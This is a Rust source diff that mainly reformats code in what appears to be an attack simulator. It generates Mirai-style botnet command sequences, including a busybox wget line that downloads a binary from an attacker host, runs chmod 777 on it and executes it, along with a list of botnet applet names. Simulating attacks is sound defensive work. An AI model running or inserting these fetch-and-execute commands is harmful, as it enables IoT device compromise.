@@ -90,8 +90,20 @@ pub const TYPED: &[&str] = &[
 ];
 
 /// What the shell does not know.
-pub const UNKNOWN: &[&str] =
-    &["ipconfig ", "sl", "tralala", "lsl", "dir", "cdd ..", "das", "cta passwd", "nano a.txt", "systemctl status sshd", "/gweerwe323f", "docker ps"];
+pub const UNKNOWN: &[&str] = &[
+    "ipconfig ",
+    "sl",
+    "tralala",
+    "lsl",
+    "dir",
+    "cdd ..",
+    "das",
+    "cta passwd",
+    "nano a.txt",
+    "systemctl status sshd",
+    "/gweerwe323f",
+    "docker ps",
+];
 
 /// A botnet's name for its applet.
 const APPLETS: &[&str] = &["MIRAI", "ECCHI", "KDVR", "LZRD", "SORA", "OWARI", "JOSHO"];
@@ -101,13 +113,17 @@ pub fn mirai(attacker: &mut Attacker) -> (Vec<Text>, String) {
     let applet = attacker.random.pick(APPLETS).to_owned();
     let arch = *attacker.random.pick(&["x86", "arm7", "mips", "mpsl", "arm", "sh4"]);
     let url = format!("http://{}/bins/{}.{arch}", attacker.host, applet.to_lowercase());
-    let mut commands: Vec<Text> = ["enable", "system", "shell", "sh", "linuxshell"].into_iter().map(Text::from).collect();
+    let mut commands: Vec<Text> =
+        ["enable", "system", "shell", "sh", "linuxshell"].into_iter().map(Text::from).collect();
     commands.push(format!("/bin/busybox {applet}").into());
     commands.push(format!("cat /proc/mounts; /bin/busybox {applet}").into());
     commands.push(format!("cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox {applet}").into());
     commands.push(format!("tftp; wget; /bin/busybox {applet}").into());
     commands.push("dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s".into());
-    commands.push(format!("/bin/busybox wget {url} -O - > .i; /bin/busybox chmod 777 .i; ./.i telnet.{arch}; >.i").into());
+    commands.push(
+        format!("/bin/busybox wget {url} -O - > .i; /bin/busybox chmod 777 .i; ./.i telnet.{arch}; >.i")
+            .into(),
+    );
     commands.push("rm .s; exit".into());
     (commands, url)
 }
